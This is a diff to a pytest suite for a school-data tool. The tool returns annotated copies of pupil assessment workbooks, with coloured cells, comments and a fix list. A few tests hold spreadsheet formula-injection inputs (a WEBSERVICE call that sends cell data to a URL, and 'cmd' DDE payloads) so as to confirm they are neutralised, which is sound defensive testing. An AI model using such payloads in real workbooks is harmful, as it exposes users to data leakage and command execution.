@@ -1,4 +1,4 @@
-"""A school's own workbook, handed back: what is kept of it, what is marked, and that it can be sent again."""
+"""A school's own workbook, handed back: what is kept, what is annotated, and that it can be sent again."""
 
 from __future__ import annotations
 
@@ -10,8 +10,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from builders_binary_sheets import cells_of, write_ods, write_xls, write_xlsb
-from builders_marked import FAULTY, GOOD, HEADS, NAMES, OAKFIELD, MarkedTrust, book_of, listed, said
+from builders_annotated import FAULTY, GOOD, HEADS, NAMES, OAKFIELD, AnnotatingTrust, book_of, listed, said
+from builders_binary_sheets import cells_of, ods_rows, write_ods, write_xls, write_xlsb
 from builders_sheets import made_upn, raw_rows, write_csv, write_raw_xlsx, write_xlsx
 from hypothesis import given
 from hypothesis import strategies as st
@@ -24,10 +24,10 @@ from openpyxl.styles import Font, PatternFill
 from openpyxl.worksheet.datavalidation import DataValidation
 
 from etl.__main__ import main
-from etl.annotated import NotMarkedError, annotate, checked_name, save_annotated
+from etl.annotated import NotAnnotatedError, annotate, checked_name, save_annotated
+from etl.annotated.cells import COMMENT_SIGN, FILLS
 from etl.annotated.formulas import reaches_outside
 from etl.annotated.from_cells import legal_names
-from etl.annotated.marking import COMMENT_SIGN, FILLS
 from etl.containers import open_workbook
 from etl.errors import UnreadableFileError
 from etl.problems import Severity
@@ -37,8 +37,8 @@ STOP, CHECK = FILLS[Severity.STOP], FILLS[Severity.CHECK]
 
 
 @pytest.fixture
-def trust(tmp_path: Path) -> MarkedTrust:
-    return MarkedTrust(tmp_path)
+def trust(tmp_path: Path) -> AnnotatingTrust:
+    return AnnotatingTrust(tmp_path)
 
 
 def fill(cell: Any) -> str:
@@ -61,12 +61,14 @@ def reading(outcomes: list[Outcome]) -> list[Any]:
     ]
 
 
-# What is marked
+# What is annotated
 
 
-def test_every_cell_that_a_problem_names_is_filled_and_commented(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_every_cell_that_a_problem_names_is_filled_and_commented(
+    trust: AnnotatingTrust, tmp_path: Path
+) -> None:
     file = write_xlsx(tmp_path / "tracker.xlsx", {"Year 6": FAULTY})
-    sheet = book_of(trust.marked(file))["Year 6"]
+    sheet = book_of(trust.annotated(file))["Year 6"]
     named = {p.cell for one in trust.check(file) for p in one.problems if p.cell}
     assert named == {"A3", "C4", "D4"}
     for cell in (cell for row in sheet.iter_rows() for cell in row):
@@ -82,7 +84,7 @@ def test_every_cell_that_a_problem_names_is_filled_and_commented(trust: MarkedTr
 
 
 def test_several_problems_at_a_cell_make_one_comment_and_the_gravest_gives_the_fill(
-    trust: MarkedTrust, tmp_path: Path
+    trust: AnnotatingTrust, tmp_path: Path
 ) -> None:
     from dataclasses import replace
 
@@ -95,7 +97,7 @@ def test_several_problems_at_a_cell_make_one_comment_and_the_gravest_gives_the_f
         for severity in [Severity(severity)]
     )
     outcomes = [replace(trust.check(file)[0], problems=problems)]
-    written = tmp_path / "marked.xlsx"
+    written = tmp_path / "annotated.xlsx"
     written.write_bytes(annotate(file, outcomes, NAMES))
     sheet = book_of(written)["Marks"]
     assert [fill(sheet[cell]) for cell in ("C2", "D2", "D3")] == [STOP, CHECK, FILLS[Severity.INFO]]
@@ -105,7 +107,7 @@ def test_several_problems_at_a_cell_make_one_comment_and_the_gravest_gives_the_f
 
 
 def test_a_merged_cell_is_marked_where_it_shows_and_a_blank_far_one_is_made(
-    trust: MarkedTrust, tmp_path: Path
+    trust: AnnotatingTrust, tmp_path: Path
 ) -> None:
     from dataclasses import replace
 
@@ -113,7 +115,7 @@ def test_a_merged_cell_is_marked_where_it_shows_and_a_blank_far_one_is_made(
 
     file = write_xlsx(tmp_path / "t.xlsx", {"Marks": GOOD}, merges={"Marks": [(1, 1, 2, 1)]})
     problems = tuple(Problem(Severity.STOP, "x", "m", "", "Marks", cell) for cell in ("B3", "BB900"))
-    written = tmp_path / "marked.xlsx"
+    written = tmp_path / "annotated.xlsx"
     written.write_bytes(annotate(file, [replace(trust.check(file)[0], problems=problems)], NAMES))
     sheet = book_of(written)["Marks"]
     assert sheet["B2"].comment is not None
@@ -121,14 +123,14 @@ def test_a_merged_cell_is_marked_where_it_shows_and_a_blank_far_one_is_made(
     assert [row[2] for row in listed(written)] == ["B3", "BB900"]
 
 
-def test_white_text_stays_legible_on_the_fill(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_white_text_stays_legible_on_the_fill(trust: AnnotatingTrust, tmp_path: Path) -> None:
     book = Workbook()
     for row in FAULTY:
         book.active.append(row)
     book.active["C4"].font = Font(color="FFFFFFFF", bold=True)
     book.active["C4"].fill = PatternFill("solid", fgColor="FF1F4E78")
     book.save(tmp_path / "t.xlsx")
-    font = book_of(trust.marked(tmp_path / "t.xlsx"))["Sheet"]["C4"].font
+    font = book_of(trust.annotated(tmp_path / "t.xlsx"))["Sheet"]["C4"].font
     assert (font.color.rgb, font.bold) == ("FF1D2329", True)
 
 
@@ -155,15 +157,15 @@ def test_the_fills_stay_apart_for_every_kind_of_colour_vision() -> None:
 
 
 def test_the_fix_list_is_first_and_open_and_its_links_lead_to_the_cells(
-    trust: MarkedTrust, tmp_path: Path
+    trust: AnnotatingTrust, tmp_path: Path
 ) -> None:
     file = write_xlsx(tmp_path / "t.xlsx", {"Cover": [["Ours"]], "Day's class": FAULTY})
-    marked = trust.marked(file)
-    book = book_of(marked)
+    annotated = trust.annotated(file)
+    book = book_of(annotated)
     assert book.sheetnames == ["Fix list", "Cover", "Day's class"]
     assert book.active.title == "Fix list"
     assert [sheet.title for sheet in book if sheet.sheet_view.tabSelected] == ["Fix list"]
-    rows = listed(marked)
+    rows = listed(annotated)
     found = trust.check(file)[0].problems
     assert [row[3] for row in rows] == [one.message for one in found]
     assert [row[:3] for row in rows] == [
@@ -176,41 +178,44 @@ def test_the_fix_list_is_first_and_open_and_its_links_lead_to_the_cells(
         cell.hyperlink.location for row in book["Fix list"].iter_rows() for cell in row if cell.hyperlink
     }
     assert links == {"'Day''s class'!A3", "'Day''s class'!C4", "'Day''s class'!D4", "'Cover'!A1"}
-    assert said(marked).splitlines()[:4] == [
+    assert said(annotated).splitlines()[:4] == [
         "Fix list",
         "Oakfield Primary School, 2025/26 Spring 1",
         "Found: 3 stops to be put right, 0 checks worth a look, 1 for information.",
-        "Correct the marked cells, save, and send this file as it is: this sheet, the colours and the "
+        "Correct the coloured cells, save, and send this file as it is: this sheet, the colours and the "
         "comments are left out when it is read.",
     ]
 
 
-def test_where_nothing_was_found_it_says_so(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_where_nothing_was_found_it_says_so(trust: AnnotatingTrust, tmp_path: Path) -> None:
     rows = [[*HEADS, "Maths Current"], *([*row, "EXS"] for row in GOOD[1:])]
     file = write_xlsx(tmp_path / "t.xlsx", {"Year 6": rows})
     assert [one.problems for one in trust.check(file)] == [()]
-    marked = trust.marked(file)
-    assert "Nothing was found: the file can be loaded as it is." in said(marked)
-    assert listed(marked) == []
-    assert reading(trust.check(marked)) == reading(trust.check(file))
+    annotated = trust.annotated(file)
+    assert "Nothing was found: the file can be loaded as it is." in said(annotated)
+    assert listed(annotated) == []
+    assert reading(trust.check(annotated)) == reading(trust.check(file))
 
 
-def test_a_sheet_that_looks_like_a_formula_is_listed_as_text(trust: MarkedTrust, tmp_path: Path) -> None:
-    marked = trust.marked(write_xlsx(tmp_path / "t.xlsx", {"=1+1": FAULTY}))
-    assert {cell.data_type for row in book_of(marked)["Fix list"].iter_rows() for cell in row} <= {"s", "n"}
-    assert {row[1] for row in listed(marked)} == {"=1+1"}
+def test_a_sheet_that_looks_like_a_formula_is_listed_as_text(trust: AnnotatingTrust, tmp_path: Path) -> None:
+    annotated = trust.annotated(write_xlsx(tmp_path / "t.xlsx", {"=1+1": FAULTY}))
+    assert {cell.data_type for row in book_of(annotated)["Fix list"].iter_rows() for cell in row} <= {
+        "s",
+        "n",
+    }
+    assert {row[1] for row in listed(annotated)} == {"=1+1"}
 
 
-def test_a_schools_own_sheet_called_fix_list_is_its_own(trust: MarkedTrust, tmp_path: Path) -> None:
-    marked = trust.marked(write_xlsx(tmp_path / "t.xlsx", {"Fix list": FAULTY}))
-    assert [sheet.name for sheet in open_workbook(marked).sheets] == ["Fix list"]
-    assert len(book_of(marked).sheetnames) == 2
+def test_a_schools_own_sheet_called_fix_list_is_its_own(trust: AnnotatingTrust, tmp_path: Path) -> None:
+    annotated = trust.annotated(write_xlsx(tmp_path / "t.xlsx", {"Fix list": FAULTY}))
+    assert [sheet.name for sheet in open_workbook(annotated).sheets] == ["Fix list"]
+    assert len(book_of(annotated).sheetnames) == 2
 
 
 # What is kept
 
 
-def test_the_workbook_keeps_its_formats(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_the_workbook_keeps_its_formats(trust: AnnotatingTrust, tmp_path: Path) -> None:
     book = Workbook()
     sheet = book.active
     sheet.title = "Year 6"
@@ -236,8 +241,8 @@ def test_the_workbook_keeps_its_formats(trust: MarkedTrust, tmp_path: Path) -> N
     book["Notes"].sheet_state = "hidden"
     book.save(tmp_path / "t.xlsx")
 
-    marked = trust.marked(tmp_path / "t.xlsx")
-    kept = book_of(marked)
+    annotated = trust.annotated(tmp_path / "t.xlsx")
+    kept = book_of(annotated)
     made = kept["Year 6"]
     assert kept.sheetnames[1:] == ["Year 6", "Notes"]
     assert (kept["Notes"].sheet_state, kept["Notes"]["B2"].value) == ("hidden", "kept")
@@ -252,21 +257,21 @@ def test_the_workbook_keeps_its_formats(trust: MarkedTrust, tmp_path: Path) -> N
     assert (str(validation.sqref), validation.formula1) == ("C3:D99", '"PKS,WTS,EXS,GDS"')
     [area] = made.conditional_formatting
     assert (str(area.sqref), area.rules[0].formula) == ("C3:D99", ['"PKS"'])
-    xml = zipfile.ZipFile(marked).read("xl/worksheets/sheet2.xml").decode()
+    xml = zipfile.ZipFile(annotated).read("xl/worksheets/sheet2.xml").decode()
     assert "<b" in xml.split('r="F3"')[1].split("</c>")[0], "part of the text is bold"
     # A number that is no date, and one with more digits than a time keeps, are the numbers that they were.
     assert "<v>-1</v>" in xml.split('r="G3"')[1].split("</c>")[0]
     assert "<v>45678.123456789</v>" in xml.split('r="H3"')[1].split("</c>")[0]
-    assert reading(trust.check(marked)) == reading(trust.check(tmp_path / "t.xlsx"))
+    assert reading(trust.check(annotated)) == reading(trust.check(tmp_path / "t.xlsx"))
 
 
-def test_a_problem_in_a_hidden_row_is_said_to_be_there(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_a_problem_in_a_hidden_row_is_said_to_be_there(trust: AnnotatingTrust, tmp_path: Path) -> None:
     book = Workbook()
     for row in FAULTY:
         book.active.append(row)
     book.active.row_dimensions[3].hidden = True
     book.save(tmp_path / "t.xlsx")
-    found = {row[2]: row[3] for row in listed(trust.marked(tmp_path / "t.xlsx"))}
+    found = {row[2]: row[3] for row in listed(trust.annotated(tmp_path / "t.xlsx"))}
     assert found["A3"] == "This pupil has no UPN. The cell is in a hidden row."
     assert "hidden" not in found["C4"]
 
@@ -281,16 +286,16 @@ def test_a_problem_in_a_hidden_row_is_said_to_be_there(trust: MarkedTrust, tmp_p
     ],
 )
 def test_what_cannot_be_kept_is_said(
-    trust: MarkedTrust, tmp_path: Path, extra: dict[str, bytes], words: str
+    trust: AnnotatingTrust, tmp_path: Path, extra: dict[str, bytes], words: str
 ) -> None:
     rows = {
         1: dict(zip("ABCD", HEADS, strict=True)),
         2: {"A": made_upn(1), "B": "6", "C": "EXS", "D": "GDS"},
     }
-    marked = trust.marked(write_raw_xlsx(tmp_path / "t.xlsm", raw_rows(rows), extra=extra))
-    assert words in said(marked)
-    assert marked.suffix == ".xlsx"
-    assert not {name for name in zipfile.ZipFile(marked).namelist() if name in extra}
+    annotated = trust.annotated(write_raw_xlsx(tmp_path / "t.xlsm", raw_rows(rows), extra=extra))
+    assert words in said(annotated)
+    assert annotated.suffix == ".xlsx"
+    assert not {name for name in zipfile.ZipFile(annotated).namelist() if name in extra}
 
 
 # Formulas
@@ -309,23 +314,23 @@ def with_formulas(path: Path) -> Path:
     return write_xlsx(path, {"Year 6": GOOD}, formulas={"Year 6": FORMULAS})
 
 
-def test_formulas_stay_and_keep_their_results(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_formulas_stay_and_keep_their_results(trust: AnnotatingTrust, tmp_path: Path) -> None:
     file = with_formulas(tmp_path / "t.xlsx")
-    marked = trust.marked(file)
-    sheet = book_of(marked)["Year 6"]
+    annotated = trust.annotated(file)
+    sheet = book_of(annotated)["Year 6"]
     assert {cell: sheet[cell].value for cell in FORMULAS} == {c: f for c, (f, _) in FORMULAS.items()}
-    assert open_workbook(marked).sheets == open_workbook(file).sheets
-    assert reading(trust.check(marked)) == reading(trust.check(file))
-    assert [(p.code, p.cell) for p in trust.check(marked)[0].problems if p.cell] == [("error_value", "D3")]
+    assert open_workbook(annotated).sheets == open_workbook(file).sheets
+    assert reading(trust.check(annotated)) == reading(trust.check(file))
+    assert [(p.code, p.cell) for p in trust.check(annotated)[0].problems if p.cell] == [("error_value", "D3")]
 
 
-def test_a_formula_that_had_no_result_is_still_a_fault(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_a_formula_that_had_no_result_is_still_a_fault(trust: AnnotatingTrust, tmp_path: Path) -> None:
     book = Workbook()
     for row in GOOD:
         book.active.append(row)
     book.active["C2"] = '="EXS"'  # openpyxl writes no result
     book.save(tmp_path / "t.xlsx")
-    for file in (tmp_path / "t.xlsx", trust.marked(tmp_path / "t.xlsx")):
+    for file in (tmp_path / "t.xlsx", trust.annotated(tmp_path / "t.xlsx")):
         found = [(p.code, p.cell) for p in trust.check(file)[0].problems if p.cell]
         assert found == [("formula_without_value", "C2")]
 
@@ -350,14 +355,14 @@ def test_what_reaches_outside_by_itself(formula: str, outside: bool) -> None:
     assert reaches_outside(formula) is outside
 
 
-def test_formulas_that_reach_outside_come_back_as_values(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_formulas_that_reach_outside_come_back_as_values(trust: AnnotatingTrust, tmp_path: Path) -> None:
     formulas = {"C2": ('=WEBSERVICE("http://x/?"&A2)', "EXS"), "C3": ("=cmd|'/C calc'!A0", "WTS")}
     file = write_xlsx(tmp_path / "t.xlsx", {"Year 6": GOOD}, formulas={"Year 6": formulas})
-    marked = trust.marked(file)
-    sheet = book_of(marked)["Year 6"]
+    annotated = trust.annotated(file)
+    sheet = book_of(annotated)["Year 6"]
     assert [(sheet[cell].data_type, sheet[cell].value) for cell in formulas] == [("s", "EXS"), ("s", "WTS")]
-    assert "given as the values they had" in said(marked)
-    assert reading(trust.check(marked)) == reading(trust.check(file))
+    assert "given as the values they had" in said(annotated)
+    assert reading(trust.check(annotated)) == reading(trust.check(file))
 
 
 # Other kinds
@@ -367,48 +372,50 @@ KINDS: dict[str, Callable[[Path, list[list[Any]]], Path]] = {
     "csv": lambda path, rows: write_csv(path, rows),
     "xls": lambda path, rows: write_xls(path, {"Year 6": cells_of(rows)}),
     "xlsb": lambda path, rows: write_xlsb(path, {"Year 6": cells_of(rows)}),
-    "ods": lambda path, rows: write_ods(path, {"Year 6": cells_of(rows)}),
+    "ods": lambda path, rows: write_ods(path, {"Year 6": ods_rows(rows)}),
 }
 DANGEROUS = ['=HYPERLINK("http://x","y")', "+1", "@SUM(A1)", "-x", "007", '=cmd|"/C calc"!A0']
 
 
 @pytest.mark.parametrize("kind", KINDS)
-def test_a_marked_copy_reads_as_the_file_does(trust: MarkedTrust, tmp_path: Path, kind: str) -> None:
+def test_a_marked_copy_reads_as_the_file_does(trust: AnnotatingTrust, tmp_path: Path, kind: str) -> None:
     file = KINDS[kind](tmp_path / f"Oakfield Y6.{kind}", FAULTY)
-    marked = trust.marked(file)
-    before, after = reading(trust.check(file)), reading(trust.check(marked))
+    annotated = trust.annotated(file)
+    before, after = reading(trust.check(file)), reading(trust.check(annotated))
     assert before[0][3]
     assert after == before
-    again = trust.marked(marked, "again.xlsx")
+    again = trust.annotated(annotated, "again.xlsx")
     assert reading(trust.check(again)) == before
 
 
 @pytest.mark.parametrize("kind", KINDS)
-def test_text_that_looks_like_a_formula_stays_text(trust: MarkedTrust, tmp_path: Path, kind: str) -> None:
+def test_text_that_looks_like_a_formula_stays_text(trust: AnnotatingTrust, tmp_path: Path, kind: str) -> None:
     rows = [[*HEADS, "Notes"], *([made_upn(n), "6", "EXS", "EXS", text] for n, text in enumerate(DANGEROUS))]
     file = KINDS[kind](tmp_path / f"t.{kind}", rows)
-    for marked in (trust.marked(file), trust.marked(trust.marked(file), "again.xlsx")):
-        [name] = book_of(marked).sheetnames[1:]
-        cells = [row[4] for row in book_of(marked)[name].iter_rows(min_row=2)]
+    for annotated in (trust.annotated(file), trust.annotated(trust.annotated(file), "again.xlsx")):
+        [name] = book_of(annotated).sheetnames[1:]
+        cells = [row[4] for row in book_of(annotated)[name].iter_rows(min_row=2)]
         assert [cell.value for cell in cells] == DANGEROUS
         assert {cell.data_type for cell in cells} == {"s"}
         assert [bool(cell.quotePrefix) for cell in cells] == [True, True, True, True, False, True]
 
 
 @pytest.mark.parametrize("name", ["Reading", "Y6 A2", "Year 6 Oak", "R", "x" * 40 + " Year 6 Reading"])
-def test_a_text_files_name_says_no_more_than_it_did(trust: MarkedTrust, tmp_path: Path, name: str) -> None:
+def test_a_text_files_name_says_no_more_than_it_did(
+    trust: AnnotatingTrust, tmp_path: Path, name: str
+) -> None:
     rows = [["UPN", "Current"], [made_upn(1), "EXS"], [made_upn(2), "GDS"]]
     file = write_csv(tmp_path / f"{name}.csv", rows)
-    assert reading(trust.check(trust.marked(file))) == reading(trust.check(file))
+    assert reading(trust.check(trust.annotated(file))) == reading(trust.check(file))
 
 
-def test_a_corrected_copy_is_accepted(trust: MarkedTrust, tmp_path: Path) -> None:
-    marked = trust.marked(write_csv(tmp_path / "Oakfield.csv", FAULTY))
-    book = book_of(marked)
+def test_a_corrected_copy_is_accepted(trust: AnnotatingTrust, tmp_path: Path) -> None:
+    annotated = trust.annotated(write_csv(tmp_path / "Oakfield.csv", FAULTY))
+    book = book_of(annotated)
     sheet = book["Oakfield"]
     sheet["A3"], sheet["C4"], sheet["D4"] = made_upn(2), "EXS", "WTS"
-    book.save(marked)
-    [outcome] = trust.check(marked)
+    book.save(annotated)
+    [outcome] = trust.check(annotated)
     assert (outcome.status, outcome.pupils, outcome.judgements) == (Status.ACCEPTED, 3, 6)
 
 
@@ -427,7 +434,7 @@ def test_every_sheet_gets_a_name_of_its_own_that_excel_takes(names: list[str]) -
 # A second time
 
 
-def test_a_second_check_takes_the_marks_of_the_first_out(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_a_second_check_takes_the_marks_of_the_first_out(trust: AnnotatingTrust, tmp_path: Path) -> None:
     book = Workbook()
     for row in FAULTY:
         book.active.append(row)
@@ -439,13 +446,15 @@ def test_a_second_check_takes_the_marks_of_the_first_out(trust: MarkedTrust, tmp
     sheet["D4"].fill = PatternFill("solid", fgColor="FFFFFF00")
     book.save(tmp_path / "t.xlsx")
 
-    first = trust.marked(tmp_path / "t.xlsx")
-    marked = book_of(first)
-    assert marked["Sheet"]["C4"].comment.text.startswith(f"Ask the class teacher\n\n{COMMENT_SIGN}\n■ Stop")
-    marked["Sheet"]["A3"], marked["Sheet"]["C4"] = made_upn(2), "EXS"
-    marked.save(first)
+    first = trust.annotated(tmp_path / "t.xlsx")
+    annotated = book_of(first)
+    assert annotated["Sheet"]["C4"].comment.text.startswith(
+        f"Ask the class teacher\n\n{COMMENT_SIGN}\n■ Stop"
+    )
+    annotated["Sheet"]["A3"], annotated["Sheet"]["C4"] = made_upn(2), "EXS"
+    annotated.save(first)
 
-    second = book_of(trust.marked(first, "second.xlsx"))
+    second = book_of(trust.annotated(first, "second.xlsx"))
     again = second["Sheet"]
     assert second.sheetnames == ["Fix list", "Sheet"]
     assert (again["A3"].fill.patternType, again["A3"].fill.fgColor.rgb) == ("lightUp", "FF00FF00")
@@ -454,7 +463,7 @@ def test_a_second_check_takes_the_marks_of_the_first_out(trust: MarkedTrust, tmp
     assert (fill(again["D4"]), again["D4"].comment.text.count(COMMENT_SIGN)) == (STOP, 1)
     again["D4"] = "WTS"
     second.save(tmp_path / "third.xlsx")
-    third = book_of(trust.marked(tmp_path / "third.xlsx", "fourth.xlsx"))["Sheet"]
+    third = book_of(trust.annotated(tmp_path / "third.xlsx", "fourth.xlsx"))["Sheet"]
     assert (fill(third["D4"]), third["D4"].comment) == ("FFFF00", None)
 
 
@@ -514,48 +523,50 @@ def damaged_styles(path: Path) -> Path:
     ],
 )
 def test_a_file_that_asks_for_too_much_is_marked_all_the_same(
-    trust: MarkedTrust, tmp_path: Path, write: Callable[[Path], Path], seconds: float, words: str
+    trust: AnnotatingTrust, tmp_path: Path, write: Callable[[Path], Path], seconds: float, words: str
 ) -> None:
     file = write(tmp_path / "t.xlsx")
     outcomes = trust.check(file)
     began = time.perf_counter()
     content = annotate(file, outcomes, NAMES)
     assert time.perf_counter() - began < seconds
-    marked = tmp_path / "marked.xlsx"
-    marked.write_bytes(content)
-    assert words in said(marked)
-    assert fill(book_of(marked)["Marks"]["C2"]) == STOP
-    assert [(p.code, p.cell) for p in trust.check(marked)[0].problems if p.cell] == [("unknown_mark", "C2")]
+    annotated = tmp_path / "annotated.xlsx"
+    annotated.write_bytes(content)
+    assert words in said(annotated)
+    assert fill(book_of(annotated)["Marks"]["C2"]) == STOP
+    assert [(p.code, p.cell) for p in trust.check(annotated)[0].problems if p.cell] == [
+        ("unknown_mark", "C2")
+    ]
     if write is far_cell:
-        assert book_of(marked)["Marks"]["XFD1048576"].value == "far"
+        assert book_of(annotated)["Marks"]["XFD1048576"].value == "far"
 
 
-def test_a_file_that_cannot_be_read_gets_no_copy(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_a_file_that_cannot_be_read_gets_no_copy(trust: AnnotatingTrust, tmp_path: Path) -> None:
     file = tmp_path / "t.xlsx"
     file.write_bytes(b"PK\x03\x04 cut short")
-    with pytest.raises(NotMarkedError, match="cannot be read"):
+    with pytest.raises(NotAnnotatedError, match="cannot be read"):
         annotate(file, trust.check(file), NAMES)
 
 
-def test_a_file_of_the_fix_list_alone_holds_no_return(trust: MarkedTrust, tmp_path: Path) -> None:
-    marked = trust.marked(write_csv(tmp_path / "t.csv", FAULTY))
-    book = book_of(marked)
+def test_a_file_of_the_fix_list_alone_holds_no_return(trust: AnnotatingTrust, tmp_path: Path) -> None:
+    annotated = trust.annotated(write_csv(tmp_path / "t.csv", FAULTY))
+    book = book_of(annotated)
     book.remove(book["t"])
-    book.save(marked)
+    book.save(annotated)
     with pytest.raises(UnreadableFileError, match="no sheet with cells"):
-        open_workbook(marked)
+        open_workbook(annotated)
 
 
 # From the command line
 
 
-def run(trust: MarkedTrust, *arguments: object) -> int:
+def run(trust: AnnotatingTrust, *arguments: object) -> int:
     given_ = ["check", *map(str, arguments), "--half-term", "2025/26 Spring 1"]
     return main([*given_, "--data", str(trust.folder.root)])
 
 
 def test_check_writes_marked_copies_and_only_json_to_standard_output(
-    trust: MarkedTrust, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    trust: AnnotatingTrust, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     (tmp_path / "a").mkdir()
     files = [write_csv(tmp_path / "t.csv", FAULTY), write_xlsx(tmp_path / "a" / "t.xlsx", {"Y6": FAULTY})]
@@ -568,14 +579,14 @@ def test_check_writes_marked_copies_and_only_json_to_standard_output(
     assert [one["status"] for one in json.loads(out)] == ["rejected"] * 3
     assert {one.name for one in into.iterdir()} == {"t - checked.xlsx", "t - checked (2).xlsx"}
     assert [line for line in errors.splitlines() if line] == [
-        f"t.csv: marked copy in {into / 't - checked.xlsx'}",
-        f"t.xlsx: marked copy in {into / 't - checked (2).xlsx'}",
-        "broken.xls: The file cannot be read, so there is no marked copy of it.",
+        f"t.csv: annotated copy in {into / 't - checked.xlsx'}",
+        f"t.xlsx: annotated copy in {into / 't - checked (2).xlsx'}",
+        "broken.xls: The file cannot be read, so there is no annotated copy of it.",
     ]
     assert book_of(into / "t - checked.xlsx").sheetnames == ["Fix list", "t"]
 
 
-def test_a_file_is_never_overwritten(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_a_file_is_never_overwritten(trust: AnnotatingTrust, tmp_path: Path) -> None:
     original = write_xlsx(tmp_path / "t - checked.xlsx", {"Y6": FAULTY})
     before = original.read_bytes()
     written = save_annotated(original, trust.check(original), NAMES, tmp_path)
@@ -596,7 +607,7 @@ def test_what_a_copy_is_called(name: str, copy: str) -> None:
     assert checked_name(name) == copy
 
 
-def test_only_what_the_given_outcomes_say_is_in_the_copy(trust: MarkedTrust, tmp_path: Path) -> None:
+def test_only_what_the_given_outcomes_say_is_in_the_copy(trust: AnnotatingTrust, tmp_path: Path) -> None:
     file = write_xlsx(tmp_path / "t.xlsx", {"Year 6": FAULTY})
     from dataclasses import replace
 
